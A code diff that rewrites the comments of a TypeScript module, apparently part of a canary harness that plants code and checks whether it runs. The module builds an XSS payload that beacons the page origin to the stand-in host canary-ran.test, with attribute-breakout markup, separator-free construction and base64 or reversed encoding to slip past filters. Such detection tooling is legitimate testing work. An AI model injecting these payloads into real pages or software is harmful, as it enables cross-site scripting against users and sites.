@@ -1,27 +1,27 @@
-/** Where the code in answers reports that somebody ran it. */
+/** Host to which planted code reports that it was run. */
 export const RAN_HOST = "canary-ran.test";
 
 /**
- * Code that says where it runs, as an expression, so that it works in a function, an attribute and a module alike. It holds
- * none of the signs at which scripts cut what they read: no blank, quote, comma, plus sign, `&`, `<` or `>`.
+ * Builds code that reports the origin in which it runs. It is an expression, so that it works in functions, attributes and
+ * modules, and has none of the characters at which scripts split text: no space, quote, comma, plus sign, `&`, `<` or `>`.
  */
 export function beaconCode(id: string): string {
 	return `void(fetch(\`https://${RAN_HOST}/${id}/\`.concat(self.origin)).catch(Object))`;
 }
 
-/** What a report of such code says; null when it is none. */
+/** Parses a report of planted code; null when the address is not such a report. */
 export function readBeacon({ pathname }: URL): { readonly id: string; readonly where: string } | null {
 	const [, id, where] = /^\/(\w+)\/(.*)$/.exec(pathname) ?? [];
 	return id === undefined || where === undefined ? null : { id, where };
 }
 
-/** Text that runs the code when it becomes part of a page, also within an attribute. */
+/** Builds markup that runs the code when it is inserted into a page, even inside an attribute. */
 export const asMarkup = (code: string): string => `"'><img/src/onerror=${code}>`;
 
-/** The code as a script wants it that unpacks what it gets, or as it is. */
+/** Encodes the code in base64 for scripts that decode it; returns it unchanged for others and on the first visit. */
 export function packedFor(script: string, code: string, visit: number): string {
 	if (visit === 0 || !/\batob\b|base64|\bb64/i.test(script)) return code;
-	// Blanks at the end, so that no sign of the packed text only fills up.
+	// Padded with spaces, so that the base64 text has no padding characters.
 	const packed = btoa(code.padEnd(Math.ceil(code.length / 3) * 3));
 	return visit === 2 && /reverse/.test(script) ? [...packed].reverse().join("") : packed;
 }
